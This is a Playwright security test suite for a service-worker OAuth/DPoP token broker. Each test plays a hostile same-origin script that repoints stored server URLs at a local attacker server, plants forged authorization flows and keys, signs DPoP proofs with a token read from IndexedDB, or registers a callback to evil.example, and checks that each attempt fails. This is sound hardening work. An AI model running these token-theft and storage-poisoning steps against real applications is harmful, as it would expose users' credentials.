// A script running in the app's origin (XSS, a compromised dependency) can write the worker's
// IndexedDB, message the worker and register service workers. Each test here is such a script,
// run against the demo, and shows what it cannot do: make a token leak, poison state that outlives
// it, or brick the origin.
import { expect, test, type Page } from '@playwright/test';
import { startChallengeServer, type ChallengeServer } from './challenge-server.ts';
import {
  askWorker,
  asLog,
  authorize,
  authorizeRead,
  connect,
  openDemo,
  openWorld,
  plant,
  readDatabase,
  resetLogs,
  runTool,
  stopWorker,
  world,
} from './world.ts';

/** The page fetches a URL the way an MCP client would (POST, JSON). */
async function pageFetch(page: Page, url: string): Promise<void> {
  await page.evaluate(async (target) => {
    await fetch(target, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }).catch(() => undefined);
  }, url);
}

function tokensReceived(server: ChallengeServer): string[] {
  return server.received.filter((r) => r.authorization).map((r) => r.authorization!);
}

/** Rewrites the URL of a stored server record, as page script can. */
async function moveStoredServer(page: Page, id: string, url: string): Promise<void> {
  const servers = (await readDatabase(page))['servers'] as Array<{ id: string; url: string }>;
  const record = servers.find((s) => s.id === id);
  expect(record).toBeTruthy();
  await plant(page, 'servers', { ...record, url });
}

test.describe('a hostile script of the origin, against storage', { tag: '@hardening' }, () => {
  // The demo's Content-Security-Policy would stop a page script from reaching the attacker's server
  // at all (csp.spec.ts); these tests prove the worker's own guarantee without that layer.
  test.use({ bypassCSP: true });
  let evil: ChallengeServer;
  test.beforeEach(async () => {
    await resetLogs();
  });
  test.afterEach(async () => {
    await evil?.close();
  });

  test('rewriting a server URL in IndexedDB does not send its token there: not while the worker runs, not after a restart', async ({ page, context }) => {
    evil = await startChallengeServer({ appOrigin: world.appOrigin, issuer: world.issuer });
    await authorizeRead(page, 'mallory-victim');

    await moveStoredServer(page, 'notes', evil.url);
    await pageFetch(page, evil.url);
    // a ledger change reads the record back inside a transaction: the URL in memory stays
    await runTool(page, 'notes', 'add-note', { text: 'challenge' });
    await expect(page.getByTestId('prompt-notes')).toContainText('notes:write');
    await pageFetch(page, evil.url);
    await expect(await runTool(page, 'notes', 'list-notes')).toHaveClass(/ok/);
    expect(evil.received.length).toBeGreaterThanOrEqual(2);
    expect(tokensReceived(evil)).toEqual([]);

    // planted again, then the worker restarts and reads it: refused (not a trusted server)
    await moveStoredServer(page, 'notes', evil.url);
    await stopWorker(context, page);
    await page.reload();
    await expect(page.getByTestId('worker-warning').first()).toBeVisible();
    await expect(page.getByTestId('worker-warning').filter({ hasText: 'trusted list' })).toHaveCount(1);
    await pageFetch(page, evil.url);
    expect(tokensReceived(evil)).toEqual([]);
  });

  test('a server outside the trusted list, or with a malformed URL, is refused by configure, and nothing is saved', async ({ page }) => {
    evil = await startChallengeServer({ appOrigin: world.appOrigin, issuer: world.issuer });
    await openDemo(page);
    await expect(page.getByTestId('trust')).toContainText(`trusts only ${world.notesUrl} and ${world.calendarUrl}`);
    const servers = [
      { id: 'notes', name: 'Notes', url: world.notesUrl },
      { id: 'evil', name: 'Evil', url: evil.url },
    ];
    const untrusted = await askWorker(page, { type: 'configure', config: { clientId: world.clientId }, servers });
    expect(untrusted.ok).toBe(false);
    if (!untrusted.ok) {
      expect(untrusted.error.code).toBe('untrusted_server');
      expect(untrusted.error.message).toContain(evil.url);
      expect(untrusted.error.message).toContain('trustedServers');
    }
    const typo = await askWorker(page, { type: 'configure', config: { clientId: world.clientId }, servers: [{ id: 'notes', name: 'Notes', url: '/mcp' }] });
    expect(typo.ok).toBe(false);
    if (!typo.ok) {
      expect(typo.error.code).toBe('invalid_config');
      expect(typo.error.message).toContain('is not an absolute URL');
    }
    const stored = (await readDatabase(page))['servers'] as Array<{ id: string; url: string }>;
    expect(stored.map((s) => [s.id, s.url]).sort()).toEqual([
      ['calendar', world.calendarUrl],
      ['notes', world.notesUrl],
    ]);
    await pageFetch(page, evil.url);
    expect(tokensReceived(evil)).toEqual([]);
    await connect(page, 'notes');
    await expect(page.getByTestId('prompt-notes')).toContainText('notes:read');
  });

  test('a malformed stored record, or a typo such as url "/mcp", never stops the worker: it is skipped and reported', async ({ page, context }) => {
    await authorizeRead(page, 'mallory-victim');
    const ledger = { requested: [], granted: [], everRequested: [], authorizations: 0, timeline: [] };
    await plant(page, 'servers', { id: 'typo', name: 'Typo', url: '/mcp', ...ledger });
    await plant(page, 'servers', { id: 'junk' });
    await plant(page, 'config', { strategy: 'loop' }, 'config');
    await stopWorker(context, page);
    await resetLogs();

    await page.reload();
    const warnings = page.getByTestId('worker-warning');
    await expect(warnings.filter({ hasText: '"typo"' })).toHaveCount(1);
    await expect(warnings.filter({ hasText: '"junk"' })).toHaveCount(1);
    await expect(warnings.filter({ hasText: 'configuration' })).toHaveCount(1);
    // every server still answers through the worker, with its token where it has one
    await expect(page.getByTestId('status-notes')).toHaveText('Authorized');
    await expect(await runTool(page, 'notes', 'list-notes')).toHaveClass(/ok/);
    await connect(page, 'calendar');
    await expect(page.getByTestId('prompt-calendar')).toContainText('calendar:read');
    expect((await asLog()).authorizations).toEqual([]);
  });

  test('a planted authorization flow sends no code or verifier to an endpoint the worker did not discover, and resumes nothing', async ({ page }) => {
    evil = await startChallengeServer({ appOrigin: world.appOrigin, issuer: world.issuer });
    await authorizeRead(page, 'mallory-victim');
    // grant delete too, and keep a note the planted resume would delete
    const kept = await runTool(page, 'notes', 'add-note', { text: 'keep me' });
    await authorize(page, 'notes');
    await expect(kept).toHaveText(/Added note #\d+: keep me/);
    const id = /#(\d+)/.exec((await kept.textContent()) ?? '')![1]!;

    const state = 'planted-state-0123456789abcdefghijklmnopqrstuv';
    await plant(page, 'flows', {
      state,
      serverId: 'notes',
      serverUrl: world.notesUrl,
      issuer: evil.origin, // the attacker's "authorization server"
      clientId: world.clientId,
      codeVerifier: 'planted-verifier-0123456789abcdefghijklmnopqrstuvwxyz',
      requested: ['notes:read', 'notes:write'],
      resource: world.notesUrl,
      redirectUri: world.redirectUri,
      requireIss: false,
      returnTo: `${world.appOrigin}/`,
      resumes: [{ serverId: 'notes', kind: 'call', tool: 'delete-note', args: { id } }],
      createdAt: Date.now(),
      startedBy: '',
    });
    await page.goto(`${world.redirectUri}?code=planted-code&state=${state}`);
    await expect(page.getByTestId('last-result')).toContainText(`not ${evil.origin}`);
    expect(evil.received.filter((r) => !r.path.startsWith('/.well-known'))).toEqual([]);
    const listed = await runTool(page, 'notes', 'list-notes');
    await expect(listed).toContainText(`#${id} keep me`);
  });

  test('a stored DPoP key that can be exported is replaced, and no token is ever bound to it', async ({ page, context }) => {
    await authorizeRead(page, 'mallory-victim');
    const planted = await page.evaluate(async () => {
      const pair = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign', 'verify']);
      await new Promise<void>((resolve, reject) => {
        const open = indexedDB.open('mcp-sw-auth');
        open.onsuccess = () => {
          const tx = open.result.transaction('keys', 'readwrite');
          tx.objectStore('keys').put(pair, 'dpop');
          tx.oncomplete = () => resolve();
          tx.onerror = () => reject(tx.error);
        };
      });
      return (await crypto.subtle.exportKey('jwk', pair.publicKey)).x;
    });
    await stopWorker(context, page);
    await page.reload();
    await expect(page.getByTestId('worker-warning').filter({ hasText: 'private key can be exported' })).toHaveCount(1);
    // the tokens bound to the old key were forgotten: one authorization binds new ones to a new key
    const connected = await connect(page, 'notes');
    await authorize(page, 'notes');
    await expect(connected).toContainText('4 tools');
    await expect(page.getByTestId('binding-notes')).toHaveText('DPoP-bound token');
    const stored = await page.evaluate(
      () =>
        new Promise<{ extractable: boolean; x: string }>((resolve) => {
          const open = indexedDB.open('mcp-sw-auth');
          open.onsuccess = () => {
            const request = open.result.transaction('keys').objectStore('keys').get('dpop');
            request.onsuccess = async () => {
              const pair = request.result as CryptoKeyPair;
              resolve({ extractable: pair.privateKey.extractable, x: (await crypto.subtle.exportKey('jwk', pair.publicKey)).x! });
            };
          };
        }),
    );
    expect(stored.extractable).toBe(false);
    expect(stored.x).not.toBe(planted);
  });

  test('a DPoP-bound token read from IndexedDB is useless with proofs signed in advance: the server wants a fresh nonce', async ({ page }) => {
    await authorizeRead(page, 'mallory-victim');
    /** What a script can do with the stored token and key while it runs: sign a proof, with or without a nonce. */
    const signProof = (nonce?: string) =>
      page.evaluate(
        async ({ url, nonce }) => {
          const db = await new Promise<IDBDatabase>((resolve) => {
            const open = indexedDB.open('mcp-sw-auth');
            open.onsuccess = () => resolve(open.result);
          });
          const get = <T,>(store: string, key: string) =>
            new Promise<T>((resolve) => {
              const request = db.transaction(store).objectStore(store).get(key);
              request.onsuccess = () => resolve(request.result as T);
            });
          const token = await get<{ accessToken: string }>('tokens', 'notes');
          const pair = await get<CryptoKeyPair>('keys', 'dpop');
          const b64 = (bytes: ArrayBuffer | Uint8Array) =>
            btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
          const text = (value: unknown) => b64(new TextEncoder().encode(JSON.stringify(value)));
          const { kty, crv, x, y } = await crypto.subtle.exportKey('jwk', pair.publicKey);
          const ath = b64(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(token.accessToken)));
          const header = text({ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty, crv, x, y } });
          const payload = text({ htm: 'POST', htu: url, iat: Math.floor(Date.now() / 1000), jti: crypto.randomUUID(), ath, ...(nonce ? { nonce } : {}) });
          const signature = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, pair.privateKey, new TextEncoder().encode(`${header}.${payload}`));
          return { token: token.accessToken, proof: `${header}.${payload}.${b64(signature)}` };
        },
        { url: world.notesUrl, nonce },
      );
    const send = ({ token, proof }: { token: string; proof: string }) =>
      fetch(world.notesUrl, {
        method: 'POST',
        headers: { authorization: `DPoP ${token}`, dpop: proof, 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
        body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'thief', version: '1' } } }),
      });
    // A proof stocked up in advance cannot carry a nonce the server has not issued yet.
    const stocked = await send(await signProof());
    expect(stocked.status).toBe(401);
    expect(stocked.headers.get('www-authenticate')).toContain('use_dpop_nonce');
    // While the script runs it can still use the token with a fresh proof: what the README says.
    const fresh = await send(await signProof(stocked.headers.get('dpop-nonce')!));
    expect(fresh.status).toBe(200);
  });

  test('the callback path comes from the worker script: registering it with another path fails, and the worker in place carries on', async ({ page }) => {
    await authorizeRead(page, 'mallory-victim');
    const before = await page.evaluate(() => navigator.serviceWorker.controller?.scriptURL);
    for (const callback of ['//evil.example/cb', 'https://evil.example/cb']) {
      const outcome = await page.evaluate(
        (path) =>
          navigator.serviceWorker.register(`/sw.js?callback=${encodeURIComponent(path)}`, { type: 'module', scope: '/' }).then(
            () => 'registered',
            (error: Error) => `refused: ${error.message}`,
          ),
        callback,
      );
      expect(outcome).toMatch(/^refused/);
    }
    expect(await page.evaluate(() => navigator.serviceWorker.controller?.scriptURL)).toBe(before);
    await page.reload();
    await expect(page.getByTestId('status-notes')).toHaveText('Authorized');
    await expect(await runTool(page, 'notes', 'list-notes')).toHaveClass(/ok/);
  });

  test('a bearer token from an authorization server that advertises DPoP is refused (no downgrade)', async ({ page, context }) => {
    await context.route(`${world.issuer}/token`, async (route) => {
      if (!(route.request().postData() ?? '').includes('grant_type=authorization_code')) return route.continue();
      const response = await route.fetch();
      const body = (await response.json()) as Record<string, unknown>;
      await route.fulfill({ response, json: response.ok() ? { ...body, token_type: 'Bearer' } : body });
    });
    await openDemo(page);
    const connected = await connect(page, 'notes');
    await authorize(page, 'notes');
    await expect(page.getByTestId('last-result')).toContainText('advertises DPoP but issued a bearer token');
    await expect(page.getByTestId('binding-notes')).toHaveCount(0);
    await expect(page.getByTestId('status-notes')).not.toHaveText('Authorized');
    await expect(connected).toHaveCount(0); // the connect was not retried: nothing was granted
  });
});

test.describe('a hostile script of the origin, without a trusted-server list', { tag: '@hardening' }, () => {
  test.use({ baseURL: openWorld.appOrigin });

  test('deleting a server and configuring it again at another URL does not take its token along', async ({ page }) => {
    const evil = await startChallengeServer({ appOrigin: openWorld.appOrigin, issuer: openWorld.issuer });
    try {
      await resetLogs(openWorld);
      await authorizeRead(page, 'mallory-victim', openWorld);
      await expect(page.getByTestId('trust')).toContainText('no trusted-server list');
      await page.evaluate(
        () =>
          new Promise<void>((resolve) => {
            const open = indexedDB.open('mcp-sw-auth');
            open.onsuccess = () => {
              const tx = open.result.transaction('servers', 'readwrite');
              tx.objectStore('servers').delete('notes');
              tx.oncomplete = () => resolve();
            };
          }),
      );
      const moved = await askWorker(page, { type: 'configure', config: { clientId: openWorld.clientId }, servers: [{ id: 'notes', name: 'Notes', url: evil.url }] });
      expect(moved.ok).toBe(true);
      await pageFetch(page, evil.url);
      expect(evil.received.length).toBeGreaterThan(0);
      expect(tokensReceived(evil)).toEqual([]);
    } finally {
      await evil.close();
    }
  });
});
